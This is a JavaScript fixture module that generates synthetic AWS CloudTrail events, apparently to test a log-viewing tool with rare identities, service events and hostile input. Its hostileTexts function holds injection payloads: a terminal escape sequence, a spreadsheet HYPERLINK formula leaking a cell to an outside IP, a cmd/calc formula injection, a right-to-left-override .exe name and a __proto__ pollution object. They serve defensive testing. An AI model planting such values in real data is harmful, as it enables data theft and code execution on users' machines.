// @ts-check
// One of everything that the ordinary days do not bring: the rarer kinds of identity, service events, texts made to
// harm whoever prints them, numbers too large for JavaScript.

import {
  DEVELOPMENT,
  IRELAND,
  LOG_ARCHIVE,
  MANAGEMENT,
  OREGON,
  PRODUCTION,
  VIRGINIA,
  CHROME,
  arnav,
} from './cast.js'
import { credentials, dataEvent, inTurn } from './calls.js'
import { otherAccount, service } from './identity.js'
import { seeded } from './random.js'
import { record } from './record.js'

/** @typedef {import('./record.js').Json} Json */

const STORE = `arn:aws:identitystore::${MANAGEMENT}:identitystore/d-1234567890`

/** @returns {Json[]} */
export function oddities() {
  return [...rareIdentities(), ...serviceEvents(), ...hostileTexts(), ...endpointCalls()]
}

function rareIdentities() {
  const random = seeded('identities')
  const make = (
    /** @type {string} */ at,
    /** @type {string} */ account,
    /** @type {string} */ region,
    /** @type {string} */ call,
    /** @type {Json} */ identity,
    /** @type {Partial<import('./record.js').Call>} */ more = {},
  ) =>
    record(random, {
      at: time(at),
      call,
      who: { identity, ip: '203.0.113.44', agent: CHROME },
      account,
      region,
      ...more,
    })
  const subject = 'carlos@example.com'
  return [
    make(
      '15T09:40:12',
      PRODUCTION,
      VIRGINIA,
      'sts:AssumeRoleWithSAML',
      {
        type: 'SAMLUser',
        principalId: 'SFv8mZEXAMPLE=:carlos@example.com',
        userName: subject,
        identityProvider: 'SFv8mZEXAMPLE=',
      },
      {
        params: {
          sAMLAssertionID: `_${random.uuid()}`,
          roleSessionName: subject,
          durationSeconds: 3600,
          roleArn: `arn:aws:iam::${PRODUCTION}:role/Auditor`,
          principalArn: `arn:aws:iam::${PRODUCTION}:saml-provider/ExampleIdP`,
        },
        response: {
          subjectType: 'transient',
          issuer: 'https://idp.example.com',
          subject,
          nameQualifier: 'SFv8mZEXAMPLE=',
          audience: 'https://signin.aws.amazon.com/saml',
          ...credentials(random, PRODUCTION, 'Auditor', subject, time('15T09:40:12')),
        },
      },
    ),
    make(
      '15T10:02:50',
      LOG_ARCHIVE,
      VIRGINIA,
      's3:ListBuckets',
      {
        type: 'FederatedUser',
        principalId: `${LOG_ARCHIVE}:archive-reader`,
        arn: `arn:aws:sts::${LOG_ARCHIVE}:federated-user/archive-reader`,
        accountId: LOG_ARCHIVE,
        accessKeyId: 'ASIAFEDERATEDEXAMPLE',
        sessionContext: {
          sessionIssuer: {
            type: 'IAMUser',
            principalId: 'AIDAIBROKEREXAMPLEUS1',
            arn: `arn:aws:iam::${LOG_ARCHIVE}:user/broker`,
            accountId: LOG_ARCHIVE,
            userName: 'broker',
          },
          attributes: { creationDate: '2024-08-15T10:02:11Z', mfaAuthenticated: 'false' },
        },
      },
      { params: { Host: 's3.amazonaws.com' } },
    ),
    make(
      '15T12:15:33',
      DEVELOPMENT,
      OREGON,
      'quicksight:DescribeDashboard',
      {
        type: 'Directory',
        principalId: 'S-1-5-21-1004336348-1177238915-682003330-512',
        accountId: DEVELOPMENT,
        userName: 'nikki_wolf',
      },
      { params: { dashboardId: random.uuid() } },
    ),
    make(
      '16T13:05:09',
      MANAGEMENT,
      VIRGINIA,
      'q:StartConversation',
      {
        type: 'IdentityCenterUser',
        accountId: MANAGEMENT,
        onBehalfOf: { userId: '94482488-3041-7026-18f3-be45837cd0e4', identityStoreArn: STORE },
        credentialId: random.hex(43),
      },
      { params: { conversationId: random.uuid() }, extra: { readOnly: false, eventVersion: '1.11' } },
    ),
    make(
      '16T07:50:40',
      MANAGEMENT,
      IRELAND,
      'sso:Authenticate',
      {
        type: 'Unknown',
        principalId: MANAGEMENT,
        arn: '',
        accountId: MANAGEMENT,
        accessKeyId: '',
        userName: 'alice@example.com',
      },
      {
        extra: {
          eventType: 'AwsServiceEvent',
          readOnly: false,
          serviceEventDetails: { Authenticate: 'Success' },
          tlsDetails: undefined,
        },
      },
    ),
    make(
      '16T18:00:01',
      LOG_ARCHIVE,
      IRELAND,
      'athena:StartQueryExecution',
      {
        type: 'Role',
        principalId: 'AROAEXAMPLEROLEID0007:weekly-audit',
        arn: `arn:aws:sts::${LOG_ARCHIVE}:assumed-role/WeeklyAudit/weekly-audit`,
        accountId: LOG_ARCHIVE,
        accessKeyId: 'ASIAWEEKLYAUDEXAMPLE',
      },
      {
        params: {
          queryString: 'SELECT eventname, count(*) FROM cloudtrail_logs GROUP BY 1',
          workGroup: 'audit',
        },
        response: { queryExecutionId: random.uuid() },
      },
    ),
    make(
      '16T18:04:12',
      LOG_ARCHIVE,
      IRELAND,
      's3:GetBucketLocation',
      otherAccount('AIDAOTHERACCTEXAMPLE1', '210987654321'),
      {
        params: { bucketName: 'example-org-cloudtrail-logs', location: '' },
        error: ['AccessDenied', 'Access Denied'],
        extra: { sharedEventID: random.uuid() },
      },
    ),
  ]
}

/** Not anyone's request: their identity has no type, one has none at all. */
function serviceEvents() {
  const random = seeded('service events')
  const key = '1234abcd-12ab-34cd-56ef-1234567890ab'
  const internal = {
    identity: { accountId: PRODUCTION, invokedBy: 'AWS Internal' },
    ip: 'AWS Internal',
    agent: 'AWS Internal',
  }
  const common = { requestID: undefined, eventType: 'AwsServiceEvent', readOnly: false }
  return [
    record(random, {
      at: time('16T03:12:45'),
      call: 'kms:RotateKey',
      who: internal,
      account: PRODUCTION,
      region: IRELAND,
      extra: {
        ...common,
        serviceEventDetails: { keyId: key },
        resources: [
          {
            accountId: PRODUCTION,
            type: 'AWS::KMS::Key',
            ARN: `arn:aws:kms:${IRELAND}:${PRODUCTION}:key/${key}`,
          },
        ],
      },
    }),
    record(random, {
      at: time('17T11:30:00'),
      call: 'ec2:SharedSnapshotVolumeCreated',
      who: { ...service('ec2.amazonaws.com'), identity: null },
      account: DEVELOPMENT,
      region: OREGON,
      extra: {
        ...common,
        serviceEventDetails: { snapshotId: random.resourceId('snap') },
        addendum: { reason: 'DELIVERY_DELAY' },
      },
    }),
  ]
}

/** What a caller chooses is the caller's text: it must never act in a terminal, a spreadsheet or a program. */
function hostileTexts() {
  const random = seeded('hostile')
  const prototype = JSON.parse(
    '{"functionName":"thumbnails","tags":{"__proto__":"polluted","constructor":"x"}}',
  )
  return inTurn(random, time('17T14:20:00'), { who: arnav(), account: DEVELOPMENT, region: OREGON }, [
    { call: 'sts:GetCallerIdentity', agent: '\u001B[2J\u001B[1;31mALL LOGS DELETED\u001B[0m\u0007' },
    {
      call: 'ec2:CreateKeyPair',
      agent: '=HYPERLINK("http://203.0.113.99/?leak="&A1,"Open the report")',
      params: { keyName: "@SUM(1+1)*cmd|' /C calc'!A0", keyType: 'rsa', keyFormat: 'pem' },
      response: {
        requestId: random.uuid(),
        keyName: "@SUM(1+1)*cmd|' /C calc'!A0",
        keyFingerprint: '1f:51:ae:28:bf:89:e9:d8:1f:25:5d:37:2d:7d:b8:ca:9f:f5:f1:6f',
        keyPairId: random.resourceId('key'),
        keyMaterial: '<sensitiveDataRemoved>',
      },
    },
    {
      call: 'ec2:CreateTags',
      params: {
        resourcesSet: { items: [{ resourceId: random.resourceId('i') }] },
        tagSet: { items: [{ key: 'invoice\u202Efdp.exe', value: 'line one\r\nline two, with "quotes"' }] },
      },
      response: { requestId: random.uuid(), _return: true },
    },
    { call: 'lambda:TagResource20170331v2', params: prototype },
    {
      call: 'glue:UpdateTable',
      params: {
        databaseName: 'lake',
        tableInput: {
          name: 'events',
          parameters: {
            'current-snapshot-id': 6530921847291503842n,
            'previous-snapshot-id': 9007199254740993n,
          },
        },
      },
    },
    {
      call: 'dynamodb:PutItem',
      params: { tableName: 'sandbox', item: '****' },
      extra: {
        ...dataEvent,
        readOnly: false,
        apiVersion: '2012-08-10',
        resources: [
          {
            accountId: DEVELOPMENT,
            type: 'AWS::DynamoDB::Table',
            ARN: `arn:aws:dynamodb:${OREGON}:${DEVELOPMENT}:table/sandbox`,
          },
        ],
      },
    },
  ])
}

/** Network activity events: calls through a VPC endpoint that its policy refused. */
function endpointCalls() {
  const random = seeded('endpoint')
  return ['16T20:11:05', '17T23:20:44'].map((at) =>
    record(random, {
      at: time(at),
      call: 's3:ListBuckets',
      who: {
        identity: otherAccount('AIDAOUTSIDEREXAMPLE01', '210987654321'),
        ip: '192.0.2.61',
        agent: 'aws-cli/2.15.0',
      },
      account: PRODUCTION,
      region: IRELAND,
      error: ['VpceAccessDenied', 'The request was denied due to a VPC endpoint policy'],
      extra: {
        eventType: 'AwsVpceEvent',
        eventCategory: 'NetworkActivity',
        managementEvent: undefined,
        sharedEventID: random.uuid(),
        vpcEndpointId: 'vpce-0123456789abcdef0',
        vpcEndpointAccountId: PRODUCTION,
        requestParameters: undefined,
        responseElements: undefined,
      },
    }),
  )
}

function time(/** @type {string} */ text) {
  return Date.parse(`2024-08-${text}Z`)
}
